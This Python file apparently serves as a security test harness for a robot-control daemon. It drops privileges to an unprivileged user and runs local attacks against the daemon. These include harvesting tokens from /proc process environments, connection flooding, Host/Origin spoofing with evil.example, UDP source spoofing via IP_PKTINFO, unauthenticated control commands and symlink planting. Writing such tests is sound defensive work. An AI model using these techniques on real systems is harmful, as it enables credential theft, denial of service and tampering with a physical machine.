"""Attacks of a user who has an account on the robot's computer and nothing else: `python attacks.py NAME JSON`.

Each prints its gains as a JSON list. The program starts as root, imports, and becomes that user for good.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 (Python loads it late, when this program may read nothing of root's any more)
import json
import os
import re
import socket
import struct
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import ClientConnection, connect

from fmfts_client import ControlError, EndpointError, Subscription, request

NOBODY = 65534
BASELINE = json.dumps({"ask": "baseline", "id": 1, "pad": "left", "kind": "rest"})
IP_PKTINFO = 8  # <linux/in.h>; Python names it from 3.14 on
ANSWER_S, SILENCE_S = 3.0, 1.0
PLACES, SILENT, KEPT, PACE_S = 40, 1000, 800, 0.004


def _page(port: int, **headers: str) -> ClientConnection:
    origin: Any = headers.pop("origin", f"http://127.0.0.1:{port}")
    return connect(f"ws://127.0.0.1:{port}/socket", origin=origin, proxy=None, additional_headers=headers)


def _obeys(port: int, first: str) -> bool:
    """Tries whether the page admits this, answers it, or records a baseline for it."""
    with _page(port) as page, suppress(ConnectionClosed, TimeoutError):
        page.send(first)
        page.send(BASELINE)
        page.recv(timeout=ANSWER_S)
        return True
    return False


def read_the_token(port: int) -> list[str]:
    """Searches the arguments and environments of all programs, and the files that these name."""
    texts = []
    for file in (*Path("/proc").glob("[0-9]*/cmdline"), *Path("/proc").glob("[0-9]*/environ")):
        with suppress(OSError):
            texts.append(file.read_bytes())
    for name in re.findall(rb"file://(/[^\0\s]+)", b"\0".join(texts)):
        with suppress(OSError):
            texts.append(Path(os.fsdecode(name)).read_bytes())
    tokens = set(re.findall(rb"/#([\w-]{20,})", b"\0".join(texts)))
    return [f"the token {token!r}" for token in tokens if _obeys(port, json.dumps({"token": token.decode()}))]


def use_the_page_without_the_token(port: int) -> list[str]:
    tries = ['{"token": ""}', '{"token": null}', "null", "[]", "{", json.dumps({"token": "A" * 32}), BASELINE]
    return [f"an answer to {first}" for first in tries if _obeys(port, first)]


def take_all_places(port: int, seconds: float, pages: bool, begins: str) -> list[str]:
    """Connections at PACE_S, more than are kept, so that each dropped one is replaced.

    Prints "ready" when many are made. pages: also hold more pages without the token than there are places. begins:
    first bytes of each connection. A flood that fills the kernel's queue of the port is different: connections that are
    not accepted cannot be distinguished, so a new page opens late while it lasts. Open pages go on.
    """
    held = [_page(port) for _ in range(PLACES)] if pages else []
    silent: list[socket.socket] = []
    until_s, made = time.monotonic() + seconds, 0
    while time.monotonic() < until_s:
        peer = socket.socket()
        peer.setblocking(False)
        peer.connect_ex(("127.0.0.1", port))
        silent.append(peer)
        if len(silent) > KEPT:
            with suppress(OSError):
                silent[KEPT // 2].send(begins.encode())
            silent.pop(0).close()
        made += 1
        time.sleep(PACE_S)
        if made == SILENT:
            print("ready", flush=True)
    del held
    return []


def come_by_another_name(port: int) -> list[str]:
    """Like a page of the attacker's, whose name leads to this computer, or which is open in the owner's browser."""
    gained = []
    for host, origin in (
        (f"evil.example:{port}", f"http://evil.example:{port}"),
        (f"evil.example:{port}", f"http://127.0.0.1:{port}"),
        (f"127.0.0.1:{port}", f"http://evil.example:{port}"),
        (f"127.0.0.1:{port}", "null"),
    ):
        head = f"Host: {host}\r\nOrigin: {origin}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        head += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        with socket.create_connection(("127.0.0.1", port), timeout=ANSWER_S) as peer:
            peer.sendall(b"GET /socket HTTP/1.1\r\n" + head.encode())
            status = peer.recv(64).split(b" ")[1:2]
        if status not in ([b"421"], [b"403"]):
            gained.append(f"{host} from {origin}: {status}")
    return gained


def use_the_sockets(folder: str) -> list[str]:
    """Use the daemon's sockets on ipc, wherever the kernel lists them, and all files beside them."""
    paths = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if folder in line}
    gained = [] if paths else ["nothing to attack: /proc/net/unix lists no socket there"]
    for path in paths:
        with socket.socket(socket.AF_UNIX) as peer, suppress(OSError):
            peer.connect(path)
            gained.append(f"a connection to {path}")
    return gained


def read_files(folder: str) -> list[str]:
    """The names of those that can be read."""
    gained = []
    for root, _, files in os.walk(folder):
        for name in files:
            with suppress(OSError):
                if (Path(root) / name).read_bytes():
                    gained.append(f"{root}/{name}")
    return gained


def command_over_tcp(base: str, key: str | None = None) -> list[str]:
    """Send commands without keys, or with a key that may only read."""
    gained = []
    if key is not None:
        os.environ["FMFTS_KEY"] = key
    for verb, arguments in (("baseline", {"rest": True}), ("selftest", {})):
        with suppress(ControlError, EndpointError):
            gained.append(f"{verb}: {request(verb, endpoint=base, timeout_s=ANSWER_S, **arguments)}")
    return gained


def listen_without_a_key(base: str) -> list[str]:
    gained = command_over_tcp(base)
    with suppress(ControlError):
        gained.append(f"pads: {request('pads', endpoint=base, timeout_s=SILENCE_S)}")
    with Subscription(("contact", "status"), None, base) as messages:
        if messages.receive(SILENCE_S) is not None:
            gained.append("contacts")
    return gained


def occupy_the_folder(folder: str, mode: int) -> list[str]:
    """Make the folder of the daemon's sockets before it does. The test sees its gain in whether the daemon starts."""
    Path(folder).mkdir()
    Path(folder).chmod(mode)
    return []


def forge_the_force(port: int, program: int, stays: bool) -> list[str]:
    """From its own port, and from the address and port of the owner's program, by a socket on 127.0.0.2 (IP_PKTINFO).

    The gauge shows its gain. stays: keep running, so that its sockets can be looked up.
    """
    gauge = ("127.0.0.1", port)
    as_the_program = (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("i4s4s", 0, socket.inet_aton("127.0.0.1"), bytes(4)))
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as forger,
    ):
        forger.bind(("127.0.0.2", program))
        for _ in range(50):
            sender.sendto(b"9.99", gauge)
            forger.sendmsg([b"9.99"], [as_the_program], 0, gauge)
        if stays:
            print("ready", flush=True)
            time.sleep(ANSWER_S)
    return []


def plant_links(folder: str, targets: dict[str, str]) -> list[str]:
    """Plant links and files of the attacker where the owner will write, in a folder that everybody may write to."""
    for name, target in targets.items():
        path = Path(folder) / name
        if target:
            path.symlink_to(target)
        else:
            path.touch()
            path.chmod(0o666)
    return []


ATTACKS = {
    each.__name__: each
    for each in (
        read_the_token, use_the_page_without_the_token, take_all_places, come_by_another_name, use_the_sockets,
        read_files, command_over_tcp, listen_without_a_key, occupy_the_folder, forge_the_force, plant_links,
    )
}  # fmt: skip


if __name__ == "__main__":
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    try:
        print(json.dumps(ATTACKS[sys.argv[1]](**json.loads(sys.argv[2]))), flush=True)
    except InvalidStatus as refused:
        raise SystemExit(f"the page refused what it should at first take: {refused}") from refused
